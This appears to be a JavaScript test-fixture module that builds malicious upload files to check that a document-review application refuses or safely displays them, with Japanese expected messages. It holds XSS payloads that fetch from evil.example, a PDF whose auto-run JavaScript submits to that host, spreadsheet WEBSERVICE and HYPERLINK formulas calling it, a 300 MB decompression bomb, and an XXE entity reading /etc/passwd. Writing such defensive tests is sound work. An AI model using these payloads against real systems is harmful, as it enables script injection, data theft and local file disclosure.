// Files that somebody with bad intent would hand in, made here: what each would
// do where a browser or an office program believed it.

import { deflateRawSync } from "node:zlib";

/** Nobody may ever be asked for this. */
const EVIL = "http://evil.example";

const SCRIPT = `<script>alert(1);fetch("${EVIL}/")</script><img src="${EVIL}/p.png" onerror="alert(2)">`;

/** A PDF of these objects, counted from 1; the first is the catalogue. */
function pdf(objects) {
  let text = "%PDF-1.4\n";
  const places = objects.map((object, n) => {
    const place = text.length;
    text += `${n + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
  const size = objects.length + 1;
  return Buffer.from(
    `${text}xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<</Size ${size}/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF\n`,
    "latin1",
  );
}

function scripted() {
  const words = "BT /F 36 Tf 40 100 Td (Harmless) Tj ET";
  const script = `<</S/JavaScript/JS(app.alert\\("evil"\\);this.submitForm\\("${EVIL}/"\\);)>>`;
  return pdf([
    "<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WC 4 0 R>>/Names<</JavaScript<</Names[(a) 4 0 R]>>>>>>",
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 200]/Contents 5 0 R/Resources<</Font<</F 6 0 R>>>>/Annots[7 0 R]/AA<</O 4 0 R>>>>",
    script,
    `<</Length ${words.length}>>\nstream\n${words}\nendstream`,
    "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    `<</Type/Annot/Subtype/Link/Rect[0 0 400 200]/A<</S/URI/URI(${EVIL}/click)>>>>`,
  ]);
}

const CRC = Array.from({ length: 256 }, (_, n) => {
  for (let bit = 0; bit < 8; bit++) n = n & 1 ? (n >>> 1) ^ 0xedb88320 : n >>> 1;
  return n >>> 0;
});
const crc32 = (bytes) => (bytes.reduce((crc, byte) => CRC[(crc ^ byte) & 255] ^ (crc >>> 8), -1) ^ -1) >>> 0;

/** An archive of these entries: name, content. */
function zip(entries) {
  const [local, central] = [[], []];
  let place = 0;
  for (const [name, content] of Object.entries(entries)) {
    const [raw, path] = [Buffer.from(content), Buffer.from(name)];
    const packed = deflateRawSync(raw);
    const head = Buffer.alloc(26);
    head.writeUInt16LE(20, 0);
    head.writeUInt16LE(8, 4);
    head.writeUInt32LE(crc32(raw), 10);
    head.writeUInt32LE(packed.length, 14);
    head.writeUInt32LE(raw.length, 18);
    head.writeUInt16LE(path.length, 22);
    const item = Buffer.concat([Buffer.from("PK\x03\x04"), head, path, packed]);
    const tail = Buffer.alloc(16);
    tail.writeUInt32LE(place, 12);
    central.push(Buffer.from("PK\x01\x02"), Buffer.from([20, 0]), head, tail.subarray(2), path);
    local.push(item);
    place += item.length;
  }
  const list = Buffer.concat(central);
  const end = Buffer.alloc(18);
  const count = Object.keys(entries).length;
  end.writeUInt16LE(count, 4);
  end.writeUInt16LE(count, 6);
  end.writeUInt32LE(list.length, 8);
  end.writeUInt32LE(place, 12);
  return Buffer.concat([...local, list, Buffer.from("PK\x05\x06"), end]);
}

const XML = '<?xml version="1.0" encoding="UTF-8"?>';
const SHEETS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const PACKAGE = "http://schemas.openxmlformats.org/package/2006";

/** A book of one sheet with these cells, and whatever else is put in. */
function book(cells, more = {}, entity = "") {
  const type = "application/vnd.openxmlformats-officedocument.spreadsheetml";
  return zip({
    "[Content_Types].xml": `${XML}<Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="${type}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${type}.worksheet+xml"/></Types>`,
    "_rels/.rels": `${XML}<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    "xl/workbook.xml": `${XML}<workbook xmlns="${SHEETS}" xmlns:r="${OFFICE}"><sheets><sheet name="通知" sheetId="1" r:id="r1"/></sheets></workbook>`,
    "xl/_rels/workbook.xml.rels": `${XML}<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    "xl/worksheets/sheet1.xml": `${XML}${entity}<worksheet xmlns="${SHEETS}"><sheetData><row r="1">${cells}</row></sheetData></worksheet>`,
    ...more,
  });
}

const text = (place, words) => `<c r="${place}" t="inlineStr"><is><t>${words}</t></is></c>`;
const formula = (place, words, value) => `<c r="${place}"><f>${words}</f><v>${value}</v></c>`;

/** What is refused, with the words that say why. */
export const REFUSED = [
  ["通知書.pdf", Buffer.from(`<!doctype html>${SCRIPT}`), "ファイルを開けません"],
  ["通知書.png", Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="${EVIL}/p.png"/></svg>`), "ファイルを開けません"],
  ["動き.png", Buffer.from(`GIF89a=1;/*${SCRIPT}*/`), "ファイルを開けません"],
  ["爆弾.xlsx", book(text("A1", "x"), { "xl/media/a.bin": Buffer.alloc(300 * 1024 * 1024) }), "ファイルを開けません"],
  ["外部.xlsx", book(text("A1", "x"), { "xl/externalLinks/externalLink1.xml": `<externalLink r="${EVIL}/"/>` }), "ほかのファイルを参照している"],
  ["マクロ.xlsx", book(text("A1", "x"), { "xl/vbaProject.bin": "x" }), "マクロ"],
];

/** What is taken, and what the reviewer then sees of it. `picture` is the PNG of the demo. */
export const shown = (picture) => [
  { name: "スクリプト.pdf", bytes: scripted(), sees: "img", warns: true },
  { name: "写真とHTML.png", bytes: Buffer.concat([picture, Buffer.from(SCRIPT)]), sees: "img" },
  { name: "PDFとZIP.pdf", bytes: Buffer.concat([scripted(), zip({ "index.html": SCRIPT })]), sees: "img", warns: true },
  {
    name: "式.xlsx",
    bytes: book(text("A1", "&lt;script&gt;alert(1)&lt;/script&gt;") + formula("B1", `WEBSERVICE("${EVIL}/")`, 42) + formula("C1", `HYPERLINK("${EVIL}/","押す")`, 7)),
    sees: ["<script>alert(1)</script>", "42", "7", `式：=WEBSERVICE("${EVIL}/")`],
  },
  {
    name: "実体.xlsx",
    bytes: book(text("A1", "値&e;"), {}, `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`),
    sees: null,
  },
];
